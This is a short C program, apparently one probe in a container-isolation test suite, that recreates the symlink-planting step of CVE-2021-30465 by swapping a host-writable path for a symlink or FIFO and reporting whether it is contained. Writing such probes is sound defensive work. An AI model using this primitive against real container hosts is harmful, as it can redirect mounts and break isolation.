// CVE-2021-30465: turns argv[1], in a folder of the host that the region may write, into a link to argv[2]; what is mounted or written
// there next must not follow it. The planting itself is allowed; run.py judges what comes of it.
#include "attack.h"

int main(int argc, char **argv) {
        const char *path = arg(argc, argv, 1), *to = arg(argc, argv, 2);
        unlink(path);
        rmdir(path);
        if (strcmp(to, "fifo") == 0 ? mkfifo(path, 0666) < 0 : symlink(to, path) < 0)
                contained("plant %s", path);
        if (argc > 3)
                sleep_msec(atoi(argv[3]));
        escaped("planted %s -> %s", path, to);
}
